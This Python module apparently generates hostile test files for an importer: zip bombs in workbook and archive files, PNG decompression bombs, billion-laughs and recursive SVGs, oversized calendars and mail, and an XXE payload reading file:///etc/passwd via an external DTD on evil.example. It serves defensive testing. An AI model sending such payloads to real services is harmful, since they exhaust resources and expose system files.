"""Files of a size or a shape that nobody has, for every way in, each by its own function."""

from __future__ import annotations

import base64
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from io import BytesIO
from itertools import pairwise
from pathlib import Path

from openpyxl import Workbook
from PIL import Image

HEADS = "Full name,E-mail,Company,Phone,Street,City,Postcode,Country"
_ODS = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
    '<office:spreadsheet><table:table table:name="People">{}</table:table>'
    "</office:spreadsheet></office:body></office:document-content>"
)
_CALENDAR = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{}END:VCALENDAR\r\n"
_HEAD = "From: Ann <ann@firm.example>\nSubject: x\nDate: Wed, 5 Mar 2025 09:00:00 +0000\n"


def card(number: int, more: str = "") -> str:
    """A vCard with a line or more of one's own."""
    return (
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann {number}\r\nEMAIL:ann{number}@firm.example\r\n"
        f"TEL:+47 2211{number:05d}\r\n{more}END:VCARD\r\n"
    )


def row(number: int) -> str:
    """One person in a table."""
    return (
        f"Ann {number},ann{number}@firm.example,Firm {number % 900},+47 2211{number:05d},"
        f"{number} Dock Road,Oslo,0150,Norway"
    )


def large_photo(path: Path) -> None:
    photo = base64.b64encode(os.urandom(20_000_000)).decode()
    folded = "\r\n ".join(photo[at : at + 74] for at in range(0, len(photo), 74))
    path.write_text(card(1, f"PHOTO;ENCODING=b;TYPE=JPEG:{folded}\r\n"), newline="")


def many_properties(path: Path) -> None:
    more = "".join(f"X-P{number}:{number}\r\n" for number in range(200_000))
    path.write_text(card(1, more), newline="")


def many_cards(path: Path) -> None:
    path.write_text("".join(map(card, range(50_000))), newline="")


def many_rows(path: Path) -> None:
    path.write_text("\n".join([HEADS, *map(row, range(50_000))]))


def many_rows_of_a_workbook(path: Path, count: int = 50_000) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for line in (HEADS, *map(row, range(count))):
        sheet.append(line.split(","))
    book.save(path)


def many_rows_of_a_document(path: Path) -> None:
    rows = (
        "<table:table-row>"
        + "".join(f"<table:table-cell><text:p>{each}</text:p></table:table-cell>" for each in cells)
        + "</table:table-row>"
        for cells in (line.split(",") for line in (HEADS, *map(row, range(50_000))))
    )
    _document(path, rows)


def repeated_document(path: Path) -> None:
    cell = (
        '<table:table-cell table:number-columns-repeated="2000000000"><text:p>'
        '<text:s text:c="2000000000"/>Ann</text:p></table:table-cell>'
    )
    _document(
        path,
        [f'<table:table-row table:number-rows-repeated="2000000000">{cell}</table:table-row>'],
    )


def _document(path: Path, rows: Iterable[str]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        packed.writestr("content.xml", _ODS.format("".join(rows)))


def bomb_in_a_workbook(path: Path) -> None:
    small = BytesIO()
    book = Workbook()
    book.save(small)
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(name, source.read(name))
        _flood(out, "xl/worksheets/sheet1.xml")


def bomb_in_a_document(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        _flood(out, "content.xml")


def bomb_in_an_archive(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        _flood(out, "archive.json")
        _flood(out, "rows.json")


def _flood(archive: zipfile.ZipFile, name: str) -> None:
    with archive.open(name, "w", force_zip64=True) as member:
        for _ in range(1_000):
            member.write(b" " * 1_000_000)


def event(number: int, more: str = "") -> str:
    """A meeting with a line or more of one's own."""
    return (
        f"BEGIN:VEVENT\r\nUID:{number}@x\r\nDTSTART:20250305T{number % 24:02d}0000Z\r\n"
        f"SUMMARY:Interview {number}\r\nORGANIZER;CN=Ann {number}:mailto:a{number}@firm.example\r\n"
        f"{more}END:VEVENT\r\n"
    )


def many_lines(path: Path) -> None:
    more = "".join(f"X-A{number}:b\r\n" for number in range(200_000))
    path.write_text(_CALENDAR.format(event(1, more)), newline="")


def many_attendees(path: Path) -> None:
    more = "".join(f"ATTENDEE;CN=Bo {n}:mailto:bo{n}@firm.example\r\n" for n in range(200_000))
    path.write_text(_CALENDAR.format(event(1, more)), newline="")


def endless_recurrence(path: Path) -> None:
    dates = ",".join(["20250305T090000Z"] * 200_000)
    rule = f"RRULE:FREQ=SECONDLY;COUNT=2000000000\r\nRDATE:{dates}\r\n"
    path.write_text(_CALENDAR.format(event(1, rule)), newline="")


def many_events(path: Path) -> None:
    path.write_text(_CALENDAR.format("".join(map(event, range(20_000)))), newline="")


def many_messages(path: Path) -> None:
    path.write_text(
        "".join(
            f"From a{n}@firm.example Wed Mar  5 09:00:00 2025\nFrom: Ann {n} <a{n}@firm.example>\n"
            f"Subject: x\nMessage-ID: <{n}@x>\n\nThank you for your time.\n\nAnn {n}\n\n"
            for n in range(20_000)
        )
    )


def nested_parts(path: Path) -> None:
    begun = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(500)
    )
    ended = "".join(f"\n--b{n}--\n" for n in reversed(range(500)))
    text = "Content-Type: text/plain\n\nHello\n"
    path.write_text(f"{_HEAD}MIME-Version: 1.0\n{begun}{text}{ended}")


def many_headers(path: Path) -> None:
    path.write_text(_HEAD + "Received: from a by b\n" * 200_000 + "\nHello")


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1_000_000_000)


def pipe(path: Path) -> None:
    os.mkfifo(path)


def folder(path: Path) -> None:
    path.mkdir()


def picture_of(width: int, height: int, *, more: bytes = b"") -> bytes:
    """A white PNG of one bit a pixel; ``more`` are chunks of one's own."""
    packer = zlib.compressobj(9)
    line = b"\0" + b"\xff" * ((width + 7) // 8)
    data = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"".join(
        (
            *(b"\x89PNG\r\n\x1a\n", _chunk(b"IHDR", header), more),
            *(_chunk(b"IDAT", data), _chunk(b"IEND", b"")),
        )
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_picture(path: Path) -> None:
    path.write_bytes(picture_of(26_500, 26_500))


def swollen_profile(path: Path) -> None:
    profile = _chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(300_000_000), 9))
    path.write_bytes(picture_of(100, 100, more=profile))


def swollen_words(path: Path) -> None:
    words = _chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(300_000_000), 9))
    path.write_bytes(picture_of(100, 100, more=words))


def half_a_picture(path: Path) -> None:
    whole = picture_of(2_000, 2_000)
    path.write_bytes(whole[: len(whole) // 2])


def largest_picture(path: Path) -> None:
    """As many pixels with a mask as are let in."""
    Image.new("RGBA", (6_000, 6_000), (9, 9, 9, 99)).save(path)


def largest_photo(path: Path) -> None:
    Image.effect_noise((8_900, 8_900), 60).convert("RGB").save(path, quality=20)


def printing_colours(path: Path) -> None:
    Image.new("CMYK", (900, 600), (9, 9, 9, 9)).save(path, "JPEG")


def sixteen_bits(path: Path) -> None:
    Image.new("I;16", (900, 600), 40_000).save(path)


def moving_picture(path: Path) -> None:
    frames = [Image.new("RGB", (900, 600), (n, n, n)) for n in range(20)]
    frames[0].save(path, save_all=True, append_images=frames[1:])


def _drawing(path: Path, inside: str, before: str = "") -> None:
    space = 'xmlns="http://www.w3.org/2000/svg"'
    path.write_text(f'{before}<svg {space} viewBox="0 0 9 9">{inside}</svg>')


def laughing_drawing(path: Path) -> None:
    names = "abcdefghijk"
    pairs = pairwise(names)
    more = "".join(f'<!ENTITY {each} "{f"&{of};" * 10}">' for of, each in pairs)
    _drawing(path, "<text>&k;</text>", f'<!DOCTYPE svg [<!ENTITY a "ha">{more}]>')


def reaching_drawing(path: Path) -> None:
    doctype = (
        '<!DOCTYPE svg SYSTEM "http://evil.example/x" [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    )
    _drawing(path, "<text>&a;</text>", doctype)


def drawing_of_drawings(path: Path) -> None:
    inner = "".join(
        f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 12)
    )
    _drawing(
        path, f'<defs><g id="a0"><rect width="1" height="1"/></g>{inner}</defs><use href="#a11"/>'
    )


def long_path(path: Path) -> None:
    _drawing(path, f'<path d="M0 0{"a1 1 0 0 1 1 1" * 400_000}"/>')


Maker = Callable[[Path], None]
